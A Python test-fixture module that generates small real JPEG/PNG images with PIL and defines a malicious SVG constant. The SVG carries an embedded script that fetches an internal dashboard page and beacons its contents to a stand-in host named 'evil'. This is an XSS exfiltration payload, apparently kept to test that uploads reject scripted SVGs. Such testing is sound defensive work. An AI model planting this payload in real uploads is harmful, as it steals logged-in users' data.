"""Small real images for tests (photos are checked by content, so magic bytes alone are not a photo)."""
from __future__ import annotations

import io


def image_bytes(note: str = "daftar hadir", fmt: str = "JPEG", size: tuple[int, int] = (48, 32)) -> bytes:
    """A real image of ``fmt``, made distinct by ``note`` (its colour and, for JPEG, a comment)."""
    from PIL import Image
    shade = sum(note.encode()) % 256
    out = io.BytesIO()
    extra = {"comment": note.encode()} if fmt == "JPEG" else {}
    Image.new("RGB", size, (shade, 120, 255 - shade)).save(out, fmt, **extra)
    return out.getvalue()


SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>fetch("/dasbor/wilayah/81.05").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))'
       b'</script><rect width="10" height="10"/></svg>')
